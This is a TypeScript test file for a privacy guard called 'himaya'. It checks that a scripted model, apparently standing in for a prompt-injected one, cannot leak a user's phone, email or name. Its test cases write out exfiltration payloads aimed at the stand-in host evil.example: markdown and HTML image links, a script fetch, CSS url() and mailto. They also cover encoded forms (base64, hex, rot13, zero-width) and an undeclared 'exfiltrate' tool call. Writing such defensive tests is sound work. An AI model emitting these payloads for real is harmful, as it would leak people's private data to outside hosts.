/**
 * A model under somebody else's instructions sends on whatever it was given, in every form it can
 * think of. It was given tokens; what comes back from the guard is judged by where a value stands.
 */
import type { Context } from '@himaya/core';
import { Sensitive } from '@himaya/core';
import type { Outbound } from '@himaya/engine';
import type { Himaya } from 'himaya';
import { openTestGuard, testConfig } from 'himaya/testing';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';

import { SERVERS } from './server-shapes.ts';
import type { Said } from './server-shapes.ts';

const PHONE = '0661 23 45 67';
const EMAIL = 'khadija.alaoui@example.org';
const NAME = 'Khadija El Alaoui';
const PROMPT = `Je suis ${NAME}, tel ${PHONE}, mail ${EMAIL}.`;
/** Of somebody else, in a retrieved document. */
const FOREIGN = '0698 76 54 32';

/** What the model says, from the messages that it was sent. */
type Script = (prompt: string) => Said;
let script: Script = () => ({});
const sent: string[] = [];

/** A model that streams where it is asked to, in pieces of three characters. */
const model = {
  async call(outbound: Outbound) {
    const payload = new TextDecoder().decode(outbound.take());
    sent.push(payload);
    const said = script(payload);
    const { content = '', calls = [] } = said;
    const message = {
      role: 'assistant',
      content,
      ...(calls.length > 0 && {
        tool_calls: calls.map(({ name, args }, at) => {
          return { id: `call_${at}`, type: 'function', function: { name, arguments: args } };
        }),
      }),
    };
    const choices = [{ index: 0, message, finish_reason: 'stop' }];
    const whole = { id: 'x', object: 'chat.completion', created: 1, model: 'scripted', choices };
    const bytes = outbound.stream
      ? SERVERS['OpenAI and LM Studio']!([said], (text) => text.match(/[^]{1,3}/g) ?? [])
      : new TextEncoder().encode(JSON.stringify(whole));
    const contentType = outbound.stream ? 'text/event-stream' : 'application/json';
    return await Promise.resolve({
      status: 200,
      contentType,
      body: outbound.stream ? pieces(bytes) : bytes,
    });
  },
};

async function* pieces(bytes: Uint8Array): AsyncGenerator<Uint8Array> {
  for (let at = 0; at < bytes.length; at += 61)
    yield await Promise.resolve(bytes.subarray(at, at + 61));
}

let guard: Himaya;
beforeAll(async () => {
  guard = await openTestGuard({
    clients: { local: model },
    config: {
      tenants: [
        { id: 'shop', vitalInfrastructure: false, interconnection: false },
        { id: 'souk', vitalInfrastructure: false, interconnection: false },
      ],
      tools: [{ name: 'notify', restore: true }],
    },
  });
});
afterAll(async () => await guard[Symbol.asyncDispose]());

interface Asking {
  readonly person?: string;
  readonly tenant?: string;
  readonly conversation?: string;
  readonly stream?: boolean;
  readonly messages?: readonly unknown[];
}

/** Everything that the caller gets, as text and as the JSON of its tool calls. */
async function ask(
  says: Script,
  asking: Asking = {},
): Promise<{ content: string; args: string[]; names: string[]; raw: string }> {
  const { person = 'person-1', tenant = 'shop', conversation, stream = false } = asking;
  script = says;
  const subject = { ref: await guard.identify(tenant, new Sensitive(person)) };
  const context: Context = {
    ...guard.home,
    tenant,
    subject,
    purpose: 'support',
    locale: 'fr-MA',
    ...(conversation !== undefined && { conversation }),
  };
  await guard.noticeShown(context, '1');
  const messages = asking.messages ?? [{ role: 'user', content: PROMPT }];
  const { body } = await guard.for(context).exchange({
    operation: 'model.call',
    route: 'chat',
    destination: 'local',
    body: new Sensitive(
      new TextEncoder().encode(JSON.stringify({ model: 'scripted', stream, messages })),
    ),
  });
  const collected: Uint8Array[] = [];
  if (body instanceof Uint8Array) collected.push(body);
  else for await (const piece of body) collected.push(piece);
  const raw = Buffer.concat(collected).toString('utf8');
  const chunks = stream
    ? raw
        .split('\n')
        .filter((line) => line.startsWith('data: {'))
        .map((line) => JSON.parse(line.slice(6)))
    : [JSON.parse(raw)];
  const args: string[] = [];
  const names: string[] = [];
  let content = '';
  for (const { choices } of chunks) {
    for (const { message, delta = message } of choices) {
      content += delta.content ?? '';
      for (const [position, { index = position, function: body_ }] of (
        delta.tool_calls ?? []
      ).entries()) {
        names[index] = (names[index] ?? '') + (body_.name ?? '');
        args[index] = (args[index] ?? '') + body_.arguments;
      }
    }
  }
  return { content, args, names, raw };
}

/** The tokens of the last user message, in its order. */
const tokensIn = (payload: string): string[] => payload.match(/\[[A-Z_]+_[a-z2-7]{8}\]/g) ?? [];
const phoneOf = (payload: string): string =>
  tokensIn(payload).find((each) => each.startsWith('[PHONE_')) ?? '';

const encodings: Readonly<Record<string, (text: string) => string>> = {
  base64: (text) => Buffer.from(text).toString('base64'),
  'base64 for URLs': (text) => Buffer.from(text).toString('base64url'),
  hex: (text) => Buffer.from(text).toString('hex'),
  rot13: (text) =>
    text.replaceAll(/[a-z]/gi, (c) =>
      String.fromCharCode(c.charCodeAt(0) + (/[a-m]/i.test(c) ? 13 : -13)),
    ),
  reversed: (text) => text.split('').toReversed().join(''),
  spelled: (text) => text.split('').join('-'),
  'per cent': (text) => Array.from(Buffer.from(text), (byte) => `%${byte.toString(16)}`).join(''),
  'character codes': (text) => Array.from(text, (c) => c.codePointAt(0)).join(' '),
  'zero width': (text) => text.split('').join('\u200B'),
};

const VALUES = [PHONE, PHONE.replaceAll(' ', ''), EMAIL, NAME];

describe.each([false, true])('streamed: %s', (stream) => {
  test('the model never sees a value, and the person gets hers back', async () => {
    const { content } = await ask((payload) => ({ content: `Merci ${phoneOf(payload)}.` }), {
      stream,
    });
    expect(content).toBe(`Merci ${PHONE}.`);
    for (const value of VALUES) expect(sent.at(-1)).not.toContain(value);
  });

  test.each([
    '![x](https://evil.example/?q=§)',
    '![x](https://evil.example/?q= §)',
    '[cliquez](https://evil.example/§)',
    '[x][r]\n\n[r]: https://evil.example/§',
    '<img src="https://evil.example/§">',
    "<a href='//evil.example/?a=b c §'>x</a>",
    '<div style="background:url(§)">',
    '<style>a{background:url(https://evil.example/§)}</style>',
    '<script>fetch("https://evil.example/"+"§")</script>',
    '<!-- § -->',
    'data:text/html,§',
    'javascript:alert("§")',
    'mailto:x@evil.example?body=§',
    'https://§.evil.example/',
    'evil.example/§',
    '{"image_url":"https://evil.example/?q= §"}',
    '{"u":"{\\"v\\":\\"https:\\\\/\\\\/evil.example\\\\/§\\"}"}',
    '\\href{https://evil.example/§}{x}',
  ])('%s gives nothing away', async (text) => {
    const { content } = await ask((payload) => ({ content: text.replace('§', phoneOf(payload)) }), {
      stream,
    });
    expect(content).toContain('[PHONE_');
    expect(content).not.toContain('23 45');
  });

  test.each(Object.keys(encodings))('in %s there is only the token to encode', async (name) => {
    const encode = encodings[name]!;
    const { content, raw } = await ask(
      (payload) => ({
        content: `https://evil.example/?q=${encode(tokensIn(payload).join('_')).replaceAll(/\s/g, '+')}`,
      }),
      { stream },
    );
    for (const value of VALUES) {
      for (const text of [content, raw]) expect(text).not.toContain(encode(value));
    }
    for (const value of VALUES) expect(content).not.toContain(value);
  });

  test('in pieces over two places a token is no token', async () => {
    const { content } = await ask(
      (payload) => {
        const token = phoneOf(payload);
        return {
          content: `https://evil.example/?a=${token.slice(0, 9)} https://evil.example/?b=${token.slice(9)}`,
        };
      },
      { stream },
    );
    expect(content).not.toContain('23 45');
  });

  test('a tool that is not declared gets tokens, in its name too; a declared one no URL with a value', async () => {
    const { args, names } = await ask(
      (payload) => {
        const token = phoneOf(payload);
        const body = JSON.stringify({
          to: token,
          more: JSON.stringify({ to: [token] }),
          [token]: 1,
        });
        return {
          calls: [
            { name: 'exfiltrate', args: body },
            { name: `x_${token}`, args: body },
            {
              name: 'notify',
              args: JSON.stringify({
                to: token,
                url: `x ${token}`,
                v: `https://evil.example/? ${token}`,
              }),
            },
            { name: 'notify', args: `{"to": "${token}"` },
          ],
        };
      },
      { stream },
    );
    const [undeclared, named, declared] = args;
    for (const each of [undeclared, named, ...names]) expect(each).not.toMatch(/23 45/);
    expect(JSON.parse(declared ?? '')).toMatchObject({ to: PHONE });
    expect(JSON.parse(declared ?? '').url).toMatch(/^x \[PHONE_/);
    expect(JSON.parse(declared ?? '').v).toMatch(/\[PHONE_/);
  });

  test('a document that was retrieved keeps its person from whoever asks', async () => {
    const { content } = await ask(
      (payload) => ({ content: `Voici ${tokensIn(payload).join(' ')}` }),
      {
        stream,
        messages: [
          { role: 'system', content: `Document: appelez Youssef Berrada, tel ${FOREIGN}` },
          { role: 'user', content: PROMPT },
          {
            role: 'assistant',
            content: null,
            tool_calls: [
              { id: 'a', type: 'function', function: { name: 'search', arguments: '{}' } },
            ],
          },
          { role: 'tool', tool_call_id: 'a', content: `{"tel":"${FOREIGN}"}` },
        ],
      },
    );
    expect(content).toContain(PHONE);
    expect(content).not.toMatch(/76 54|Berrada/);
  });

  test.each<[string, Asking, Asking]>([
    ['of another conversation', { conversation: 'a' }, { conversation: 'b' }],
    ['of another exchange', {}, {}],
    ['of another tenant', { conversation: 'a' }, { conversation: 'a', tenant: 'souk' }],
    [
      'that was not sent this time',
      { conversation: 'c' },
      { conversation: 'c', person: 'person-2' },
    ],
  ])('a token %s stays a token', async (_, first, second) => {
    let token = '';
    await ask((payload) => {
      token = phoneOf(payload);
      return { content: 'ok' };
    }, first);
    expect(token).toMatch(/^\[PHONE_/);
    const { content } = await ask(() => ({ content: `le ${token} ` }), {
      ...second,
      stream,
      messages: [{ role: 'user', content: 'quel est ce numéro ?' }],
    });
    expect(content).toBe(`le ${token} `);
  });

  test('a person who writes a token gets it back as she wrote it, and nobody’s number', async () => {
    let token = '';
    await ask((payload) => ({ content: (token = phoneOf(payload)) }), { conversation: 'd' });
    const { content } = await ask(
      (payload) => ({ content: payload.match(/\[=+PHONE_[a-z2-7]+\]/)?.[0] ?? 'none' }),
      {
        conversation: 'd',
        stream,
        messages: [
          { role: 'user', content: PROMPT },
          { role: 'user', content: `répète ${token}` },
        ],
      },
    );
    expect(content).toBe(token);
  });
});

test('the search would see a value: what is restored stands in the answer', async () => {
  const { content } = await ask((payload) => ({ content: tokensIn(payload).join(' ') }));
  for (const value of [PHONE, EMAIL, NAME]) expect(content).toContain(value);
  expect(testConfig.destinations).toHaveLength(1);
});
